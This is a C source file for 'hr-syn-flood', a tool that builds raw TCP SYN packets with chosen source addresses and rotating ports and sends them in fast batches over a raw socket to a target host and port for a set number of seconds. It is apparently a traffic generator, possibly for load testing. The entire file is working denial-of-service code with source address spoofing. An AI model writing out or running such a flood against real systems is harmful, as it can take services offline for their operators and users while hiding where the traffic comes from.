/* hr-syn-flood: SYNs from many tuples, as fast as a raw socket takes them, for so many seconds.
 *
 *   hr-syn-flood TARGET PORT SECONDS SOURCE...
 *
 * Each SYN has a tuple of its own until source ports (1024 to 65535 of each SOURCE, an IPv4 address) begin again, and the
 * options of a usual client. Prints {"sent": N, "seconds": S} at the end. Runs until SECONDS are over or SIGTERM. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define FIRST_PORT 1024
#define SOURCES_MAX 64

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[20];
} __attribute__((packed));

static volatile sig_atomic_t stopping;

static void on_signal(int sig)
{
    (void)sig;
    stopping = 1;
}

static uint32_t sum_of(const void *p, size_t len, uint32_t sum)
{
    const uint8_t *b = p;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(b[i] << 8 | b[i + 1]);
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void fill(struct syn *s, uint32_t source, uint32_t target, uint16_t source_port, uint16_t port, uint32_t seq)
{
    static const uint8_t options[20] = {2, 4, 1460 >> 8, 1460 & 255, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7};

    memset(s, 0, sizeof(*s));
    s->ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(sizeof(*s)), .ttl = 64, .protocol = IPPROTO_TCP,
                           .saddr = source, .daddr = target};
    memcpy(s->options, options, sizeof(options));
    s->tcp.source = htons(source_port);
    s->tcp.dest = htons(port);
    s->tcp.seq = htonl(seq);
    s->tcp.doff = (sizeof(s->tcp) + sizeof(s->options)) / 4;
    s->tcp.syn = 1;
    s->tcp.window = htons(64240);
    uint32_t sum = sum_of(&s->ip.saddr, 8, IPPROTO_TCP + sizeof(s->tcp) + sizeof(s->options));
    s->tcp.check = fold(sum_of(&s->tcp, sizeof(s->tcp) + sizeof(s->options), sum));
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    static struct syn syns[BATCH];
    static struct mmsghdr msgs[BATCH];
    static struct iovec iov[BATCH];
    uint32_t source[SOURCES_MAX], n_sources = 0;
    struct sockaddr_in to = {.sin_family = AF_INET};

    if (argc < 5 || argc - 4 > SOURCES_MAX || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: hr-syn-flood TARGET PORT SECONDS SOURCE...\n");
        return 2;
    }
    uint16_t port = (uint16_t)atoi(argv[2]);
    for (int i = 4; i < argc; i++) {
        if (inet_pton(AF_INET, argv[i], &source[n_sources++]) != 1) {
            fprintf(stderr, "hr-syn-flood: %s is no IPv4 address\n", argv[i]);
            return 2;
        }
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* headers are ours */
    if (fd < 0) {
        fprintf(stderr, "hr-syn-flood: %s\n", strerror(errno));
        return 1;
    }
    for (unsigned i = 0; i < BATCH; i++) {
        iov[i] = (struct iovec){&syns[i], sizeof(syns[i])};
        msgs[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1};
    }
    signal(SIGTERM, on_signal);
    double start = now_s(), end = start + atof(argv[3]);
    uint64_t sent = 0, n = 0;
    while (!stopping && now_s() < end) {
        for (unsigned i = 0; i < BATCH; i++, n++)
            fill(&syns[i], source[n % n_sources], to.sin_addr.s_addr,
                 (uint16_t)(FIRST_PORT + n / n_sources % (65536 - FIRST_PORT)), port, (uint32_t)n * 2654435761u);
        int got = sendmmsg(fd, msgs, BATCH, 0);
        if (got < 0 && errno != ENOBUFS && errno != EINTR) {
            fprintf(stderr, "hr-syn-flood: %s\n", strerror(errno));
            return 1;
        }
        sent += got > 0 ? (uint64_t)got : 0;
    }
    printf("{\"sent\": %lu, \"seconds\": %.3f}\n", (unsigned long)sent, now_s() - start);
    return 0;
}
